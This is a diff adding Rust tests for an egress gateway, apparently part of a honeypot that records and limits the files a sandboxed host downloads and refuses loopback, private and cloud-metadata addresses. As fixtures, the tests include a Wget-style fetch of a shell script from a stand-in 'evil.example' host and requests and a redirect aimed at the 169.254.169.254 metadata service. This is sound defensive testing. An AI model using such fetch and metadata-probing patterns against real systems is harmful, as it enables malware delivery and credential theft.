@@ -1,0 +1,525 @@
+//! The gateway against real sockets: a web server of the test's own on loopback,
+//! the box's side a duplex pipe.
+
+use std::net::SocketAddr;
+use std::sync::Arc;
+use std::sync::Mutex;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use hermes_core::address_block::AddressBlock;
+use hermes_core::capture::{FileStore, sha256_hex};
+use hermes_core::config::{ByteSize, EgressConfig, Seconds};
+use hermes_core::events::{ConnectionContext, Event, EventId};
+use hermes_core::ids::SessionId;
+use hermes_core::testing::RecordedEvents;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpListener;
+
+use super::{Fetcher, serve_http};
+use crate::BoxContext;
+use crate::host_addresses::HostAddresses;
+use crate::ssrf::{Refusal, UpstreamPolicy};
+
+/// What the test server answers: the response bytes, sent after a delay, then
+/// (when `stall`) nothing more while the connection stays open.
+#[derive(Clone)]
+struct Answer {
+    response: Vec<u8>,
+    delay: Duration,
+    stall: bool,
+}
+
+fn ok(body: &[u8]) -> Answer {
+    let mut response =
+        format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
+    response.extend_from_slice(body);
+    Answer {
+        response,
+        delay: Duration::ZERO,
+        stall: false,
+    }
+}
+
+/// A web server on `address` counting connections and the most open at once.
+struct Server {
+    address: SocketAddr,
+    connections: Arc<AtomicUsize>,
+    max_open: Arc<AtomicUsize>,
+    requests: Arc<Mutex<Vec<String>>>,
+    task: tokio::task::JoinHandle<()>,
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        self.task.abort();
+    }
+}
+
+async fn server(address: &str, answer: Answer) -> Server {
+    let listener = TcpListener::bind(address).await.expect("bind");
+    let address = listener.local_addr().expect("address");
+    let connections = Arc::new(AtomicUsize::new(0));
+    let open = Arc::new(AtomicUsize::new(0));
+    let max_open = Arc::new(AtomicUsize::new(0));
+    let requests = Arc::new(Mutex::new(Vec::new()));
+    let task = tokio::spawn({
+        let (connections, max_open, requests) = (
+            Arc::clone(&connections),
+            Arc::clone(&max_open),
+            Arc::clone(&requests),
+        );
+        async move {
+            while let Ok((mut socket, _)) = listener.accept().await {
+                connections.fetch_add(1, Ordering::SeqCst);
+                let now = open.fetch_add(1, Ordering::SeqCst) + 1;
+                max_open.fetch_max(now, Ordering::SeqCst);
+                let (open, requests, answer) =
+                    (Arc::clone(&open), Arc::clone(&requests), answer.clone());
+                tokio::spawn(async move {
+                    let mut head = Vec::new();
+                    let mut byte = [0u8; 1];
+                    while !head.ends_with(b"\r\n\r\n") && head.len() < 65536 {
+                        match socket.read(&mut byte).await {
+                            Ok(1) => head.push(byte[0]),
+                            _ => break,
+                        }
+                    }
+                    requests
+                        .lock()
+                        .expect("lock")
+                        .push(String::from_utf8_lossy(&head).into_owned());
+                    tokio::time::sleep(answer.delay).await;
+                    let _ = socket.write_all(&answer.response).await;
+                    if answer.stall {
+                        tokio::time::sleep(Duration::from_secs(30)).await;
+                    }
+                    open.fetch_sub(1, Ordering::SeqCst);
+                });
+            }
+        }
+    });
+    Server {
+        address,
+        connections,
+        max_open,
+        requests,
+        task,
+    }
+}
+
+struct Rig {
+    fetcher: Arc<Fetcher>,
+    events: RecordedEvents,
+    ctx: BoxContext,
+    _store: tempfile::TempDir,
+}
+
+/// A gateway allowing only `allow` upstream, on `ports` besides the defaults.
+fn rig(allow: &[&str], ports: &[u16], tune: impl FnOnce(&mut EgressConfig)) -> Rig {
+    let mut config = EgressConfig {
+        upstream_allow: allow
+            .iter()
+            .map(|block| AddressBlock::parse(block).expect("block"))
+            .collect(),
+        ..EgressConfig::default()
+    };
+    config.upstream_ports.extend_from_slice(ports);
+    tune(&mut config);
+    let store_dir = tempfile::tempdir().expect("tempdir");
+    let store = Arc::new(FileStore::open(store_dir.path(), 1 << 30).expect("store"));
+    let policy = UpstreamPolicy::new(&config, HostAddresses::read());
+    let (bus, events) = RecordedEvents::new();
+    let owner = ConnectionContext {
+        session: SessionId::random(),
+        src: "198.51.100.7:40000".parse().expect("addr"),
+        dst: "192.0.2.10:22".parse().expect("addr"),
+    };
+    let ctx = BoxContext {
+        container_id: "c0ffee".to_owned(),
+        owner: Arc::new(move || Some(owner.clone())),
+        events: bus,
+    };
+    Rig {
+        fetcher: Arc::new(Fetcher::new(&config, policy, store)),
+        events,
+        ctx,
+        _store: store_dir,
+    }
+}
+
+impl Rig {
+    /// The box sends `request` to `dst`; what it read back before the close.
+    async fn fetch(&self, dst: SocketAddr, request: &str) -> Vec<u8> {
+        let (mut box_side, gateway_side) = tokio::io::duplex(64 * 1024);
+        let serve = tokio::spawn(serve_http(
+            gateway_side,
+            dst,
+            self.ctx.clone(),
+            Arc::clone(&self.fetcher),
+        ));
+        box_side.write_all(request.as_bytes()).await.expect("send");
+        if request.is_empty() {
+            // A connection that sends nothing and closes (a port scan).
+            box_side.shutdown().await.expect("shutdown");
+        }
+        let mut answer = Vec::new();
+        tokio::time::timeout(Duration::from_secs(20), box_side.read_to_end(&mut answer))
+            .await
+            .expect("the gateway closes")
+            .expect("read");
+        tokio::time::timeout(Duration::from_secs(20), serve)
+            .await
+            .expect("serve ends")
+            .expect("serve");
+        answer
+    }
+
+    fn one(&self, id: EventId) -> Event {
+        let events = self.events.of(id);
+        assert_eq!(events.len(), 1, "{:?}", self.events.all());
+        events.into_iter().next().expect("one")
+    }
+}
+
+fn text(event: &Event, field: &str) -> String {
+    event
+        .get(field)
+        .and_then(|v| v.as_str())
+        .unwrap_or_default()
+        .to_owned()
+}
+
+fn number(event: &Event, field: &str) -> u64 {
+    event
+        .get(field)
+        .and_then(|v| v.as_u64())
+        .unwrap_or(u64::MAX)
+}
+
+fn get(path: &str, host: &str) -> String {
+    format!(
+        "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Wget/1.21.3\r\nConnection: Keep-Alive\r\n\r\n"
+    )
+}
+
+#[tokio::test]
+async fn a_body_is_relayed_stored_with_its_sha256_and_reported_with_its_url() {
+    let body = b"#!/bin/sh\ncd /tmp; echo pwned\n".repeat(100);
+    let answer = ok(&body);
+    let server = server("127.0.0.1:0", answer.clone()).await;
+    let port = server.address.port();
+    let rig = rig(&["127.0.0.1/32"], &[port], |_| {});
+    let host = format!("evil.example:{port}");
+    let relayed = rig.fetch(server.address, &get("/x.sh?a=1", &host)).await;
+    assert_eq!(
+        relayed, answer.response,
+        "the box gets the response as sent"
+    );
+    let event = rig.one(EventId::FileDownload);
+    assert_eq!(text(&event, "url"), format!("http://{host}/x.sh?a=1"));
+    assert_eq!(text(&event, "shasum"), sha256_hex(&body));
+    assert_eq!(number(&event, "size"), body.len() as u64);
+    assert_eq!(
+        number(&event, "upstream_bytes"),
+        answer.response.len() as u64
+    );
+    assert_eq!(text(&event, "upstream"), server.address.to_string());
+    assert_eq!(
+        event.get("duplicate").and_then(|v| v.as_bool()),
+        Some(false)
+    );
+    assert!(event.get("truncated").is_none());
+    assert_eq!(
+        std::fs::read(text(&event, "outfile")).expect("stored"),
+        body
+    );
+    EventId::FileDownload
+        .check(event.as_json())
+        .expect("the catalogue's fields");
+    let requests = server.requests.lock().expect("lock").clone();
+    assert_eq!(
+        requests,
+        [format!(
+            "GET /x.sh?a=1 HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Wget/1.21.3\r\nConnection: close\r\n\r\n"
+        )]
+    );
+    // The same content again is a duplicate.
+    rig.fetch(server.address, &get("/x.sh", &host)).await;
+    let events = rig.events.of(EventId::FileDownload);
+    assert_eq!(
+        events[1].get("duplicate").and_then(|v| v.as_bool()),
+        Some(true)
+    );
+}
+
+#[tokio::test]
+async fn a_chunked_body_is_stored_decoded() {
+    let response =
+        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nELF!\r\n3\r\nabc\r\n0\r\n\r\n";
+    let server = server(
+        "127.0.0.1:0",
+        Answer {
+            response: response.to_vec(),
+            delay: Duration::ZERO,
+            stall: false,
+        },
+    )
+    .await;
+    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |_| {});
+    let relayed = rig.fetch(server.address, "GET /bot HTTP/1.0\r\n\r\n").await;
+    assert_eq!(relayed, response);
+    let event = rig.one(EventId::FileDownload);
+    assert_eq!(text(&event, "shasum"), sha256_hex(b"ELF!abc"));
+    assert_eq!(
+        text(&event, "url"),
+        format!("http://{}/bot", server.address)
+    );
+}
+
+#[tokio::test]
+async fn a_download_over_the_size_limit_is_cut_kept_and_reported() {
+    let body: Vec<u8> = (0..10 * 1024).map(|i| (i % 251) as u8).collect();
+    let answer = ok(&body);
+    let server = server("127.0.0.1:0", answer.clone()).await;
+    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
+        config.limits.download_size = ByteSize::kib(1);
+    });
+    let relayed = rig.fetch(server.address, &get("/big", "h")).await;
+    let head = answer.response.len() - body.len();
+    assert_eq!(
+        relayed,
+        answer.response[..head + 1024],
+        "the box gets what was kept, then the close"
+    );
+    let event = rig.one(EventId::FileDownload);
+    assert_eq!(event.get("truncated").and_then(|v| v.as_bool()), Some(true));
+    assert_eq!(text(&event, "reason"), "download_size");
+    assert_eq!(number(&event, "size"), 1024);
+    assert_eq!(text(&event, "shasum"), sha256_hex(&body[..1024]));
+    assert_eq!(
+        std::fs::read(text(&event, "outfile")).expect("stored"),
+        body[..1024]
+    );
+    EventId::FileDownload
+        .check(event.as_json())
+        .expect("catalogue");
+}
+
+#[tokio::test]
+async fn session_bytes_cut_a_fetch_and_refuse_the_next_without_connecting() {
+    let body = vec![b'x'; 8 * 1024];
+    let server = server("127.0.0.1:0", ok(&body)).await;
+    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
+        config.limits.session_bytes = ByteSize::kib(4);
+    });
+    rig.fetch(server.address, &get("/a", "h")).await;
+    let event = rig.one(EventId::FileDownload);
+    assert_eq!(text(&event, "reason"), "session_bytes");
+    assert_eq!(number(&event, "upstream_bytes"), 4096);
+    let relayed = rig.fetch(server.address, &get("/b", "h")).await;
+    assert!(relayed.is_empty());
+    let failed = rig.one(EventId::FileDownloadFailed);
+    assert_eq!(text(&failed, "reason"), "session_bytes");
+    assert_eq!(server.connections.load(Ordering::SeqCst), 1);
+}
+
+#[tokio::test]
+async fn past_the_session_fetch_limit_fetches_fail() {
+    let server = server("127.0.0.1:0", ok(b"payload")).await;
+    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
+        config.limits.fetches_per_session = 2;
+    });
+    for path in ["/1", "/2", "/3", "/4"] {
+        rig.fetch(server.address, &get(path, "h")).await;
+    }
+    assert_eq!(rig.events.count(EventId::FileDownload), 2);
+    let failed = rig.events.of(EventId::FileDownloadFailed);
+    assert_eq!(failed.len(), 2);
+    for event in &failed {
+        assert_eq!(text(event, "reason"), "fetches_per_session");
+        EventId::FileDownloadFailed
+            .check(event.as_json())
+            .expect("catalogue");
+    }
+    assert_eq!(text(&failed[1], "url"), "http://h/4");
+    assert_eq!(server.connections.load(Ordering::SeqCst), 2);
+    assert_eq!(rig.fetcher.upstream_connects(), 2);
+}
+
+#[tokio::test]
+async fn twenty_parallel_fetches_never_exceed_the_concurrency_cap() {
+    const CAP: usize = 3;
+    let mut answer = ok(b"slow payload");
+    answer.delay = Duration::from_millis(150);
+    let server = server("127.0.0.1:0", answer).await;
+    let rig = Arc::new(rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
+        config.limits.concurrent_fetches = CAP as u32;
+    }));
+    let started = std::time::Instant::now();
+    let fetches: Vec<_> = (0..20)
+        .map(|i| {
+            let (rig, address) = (Arc::clone(&rig), server.address);
+            tokio::spawn(async move { rig.fetch(address, &get(&format!("/{i}"), "h")).await })
+        })
+        .collect();
+    for fetch in fetches {
+        assert!(fetch.await.expect("fetch").ends_with(b"slow payload"));
+    }
+    let elapsed = started.elapsed();
+    assert_eq!(
+        server.connections.load(Ordering::SeqCst),
+        20,
+        "every fetch went upstream"
+    );
+    assert_eq!(rig.events.count(EventId::FileDownload), 20);
+    let max_open = server.max_open.load(Ordering::SeqCst);
+    assert!(max_open <= CAP, "{max_open} upstream connections at once");
+    assert_eq!(max_open, CAP, "the fetches did overlap up to the cap");
+    assert!(rig.fetcher.max_in_flight() <= CAP);
+    // 20 fetches of 150 ms, 3 at a time: at least 7 rounds.
+    assert!(elapsed >= Duration::from_millis(7 * 150), "{elapsed:?}");
+}
+
+#[tokio::test]
+async fn loopback_is_refused_without_connecting_and_the_box_gets_no_answer() {
+    let server = server("127.0.0.1:0", ok(b"secret")).await;
+    let port = server.address.port();
+    for (allow, reason) in [
+        (&[][..], "loopback"),
+        (&["127.0.0.2/32"][..], "not_allowed"),
+    ] {
+        let rig = rig(allow, &[port], |_| {});
+        let relayed = rig.fetch(server.address, &get("/", "localhost")).await;
+        assert!(relayed.is_empty(), "closed without an answer");
+        let event = rig.one(EventId::FileDownloadFailed);
+        assert_eq!(text(&event, "reason"), reason);
+        assert_eq!(text(&event, "url"), format!("http://localhost/"));
+        EventId::FileDownloadFailed
+            .check(event.as_json())
+            .expect("catalogue");
+        assert_eq!(rig.fetcher.upstream_connects(), 0);
+    }
+    // An allowlisted address on a port not listed is refused too.
+    let rig = rig(&["127.0.0.1/32"], &[], |_| {});
+    rig.fetch(server.address, &get("/", "h")).await;
+    assert_eq!(
+        text(&rig.one(EventId::FileDownloadFailed), "reason"),
+        "port"
+    );
+    tokio::task::yield_now().await;
+    assert_eq!(
+        server.connections.load(Ordering::SeqCst),
+        0,
+        "the listener saw no connection"
+    );
+}
+
+#[tokio::test]
+async fn metadata_and_private_addresses_are_refused_without_connecting() {
+    let rig = rig(&[], &[], |_| {});
+    for (dst, reason) in [
+        ("169.254.169.254:80", Refusal::Metadata),
+        ("10.1.2.3:80", Refusal::Private),
+        ("[::ffff:169.254.169.254]:80", Refusal::Metadata),
+        ("[fd00:ec2::254]:80", Refusal::Private),
+    ] {
+        let dst: SocketAddr = dst.parse().expect("addr");
+        assert_eq!(rig.fetcher.policy().check(dst), Err(reason));
+        let relayed = rig
+            .fetch(dst, &get("/latest/meta-data/", "169.254.169.254"))
+            .await;
+        assert!(relayed.is_empty());
+        let reasons = rig.events.fields(EventId::FileDownloadFailed, "reason");
+        assert_eq!(reasons.last().map(String::as_str), Some(reason.as_str()));
+    }
+    assert_eq!(
+        rig.fetcher.upstream_connects(),
+        0,
+        "no connection was attempted"
+    );
+}
+
+#[tokio::test]
+async fn a_redirect_to_the_metadata_service_is_refused_at_its_own_connection() {
+    let redirect = b"HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest/meta-data/\r\nContent-Length: 0\r\n\r\n";
+    let server = server(
+        "127.0.0.1:0",
+        Answer {
+            response: redirect.to_vec(),
+            delay: Duration::ZERO,
+            stall: false,
+        },
+    )
+    .await;
+    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |_| {});
+    // curl -L: the redirect comes back to the box...
+    let relayed = rig.fetch(server.address, &get("/go", "h")).await;
+    assert_eq!(relayed, redirect);
+    let first = rig.one(EventId::FileDownloadFailed);
+    assert_eq!(text(&first, "reason"), "http_status");
+    assert!(text(&first, "error").contains("302"));
+    assert!(text(&first, "error").contains("169.254.169.254"));
+    // ...and its client connects to the new address, which is refused.
+    let metadata: SocketAddr = "169.254.169.254:80".parse().expect("addr");
+    let relayed = rig
+        .fetch(metadata, &get("/latest/meta-data/", "169.254.169.254"))
+        .await;
+    assert!(relayed.is_empty());
+    let reasons = rig.events.fields(EventId::FileDownloadFailed, "reason");
+    assert_eq!(reasons, ["http_status", "not_allowed"]);
+    assert_eq!(rig.fetcher.upstream_connects(), 1);
+    assert_eq!(rig.events.count(EventId::FileDownload), 0);
+}
+
+#[tokio::test]
+async fn a_stalled_download_is_cut_at_the_fetch_timeout_and_kept() {
+    let mut answer = ok(&[b'z'; 1000]);
+    answer.response.truncate(answer.response.len() - 400);
+    answer.stall = true;
+    let server = server("127.0.0.1:0", answer).await;
+    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
+        config.limits.fetch_timeout = Seconds::new(1);
+    });
+    let started = std::time::Instant::now();
+    rig.fetch(server.address, &get("/slow", "h")).await;
+    let elapsed = started.elapsed();
+    assert!(
+        elapsed >= Duration::from_secs(1) && elapsed < Duration::from_secs(5),
+        "{elapsed:?}"
+    );
+    let event = rig.one(EventId::FileDownload);
+    assert_eq!(text(&event, "reason"), "fetch_timeout");
+    assert_eq!(number(&event, "size"), 600);
+}
+
+#[tokio::test]
+async fn a_connection_refused_upstream_and_garbage_from_the_box_fail() {
+    // A port nobody listens on: bind, learn it, close.
+    let closed = TcpListener::bind("127.0.0.1:0").await.expect("bind");
+    let address = closed.local_addr().expect("address");
+    drop(closed);
+    let rig = rig(&["127.0.0.1/32"], &[address.port()], |_| {});
+    assert!(rig.fetch(address, &get("/", "h")).await.is_empty());
+    assert_eq!(
+        text(&rig.one(EventId::FileDownloadFailed), "reason"),
+        "connect_failed"
+    );
+    let rig2 = self::rig(&["127.0.0.1/32"], &[address.port()], |_| {});
+    assert!(
+        rig2.fetch(address, "\x16\x03\x01 not http\r\n\r\n")
+            .await
+            .is_empty()
+    );
+    assert_eq!(
+        text(&rig2.one(EventId::FileDownloadFailed), "reason"),
+        "bad_request"
+    );
+    assert!(rig2.fetch(address, "").await.is_empty());
+    assert_eq!(
+        rig2.events.count(EventId::FileDownloadFailed),
+        1,
+        "an empty connection is no fetch"
+    );
+    assert_eq!(rig2.fetcher.upstream_connects(), 0);
+}
